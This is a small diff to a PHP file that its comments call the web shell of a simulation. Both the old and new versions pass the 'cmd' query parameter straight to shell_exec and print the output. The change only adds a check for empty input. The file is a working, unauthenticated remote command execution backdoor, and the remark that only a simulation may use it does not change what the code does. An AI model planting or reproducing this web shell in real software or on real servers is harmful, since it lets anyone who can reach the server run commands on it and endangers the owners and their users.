@@ -1,4 +1,7 @@
 <?php
 // The web shell of the simulation: runs what it is asked to and prints the result.
 // Anyone who can reach it can run commands here; nothing but a simulation may use it.
-echo shell_exec($_GET['cmd'] ?? '');
+$cmd = $_GET['cmd'] ?? '';
+if ($cmd !== '') {
+    echo shell_exec($cmd);
+}
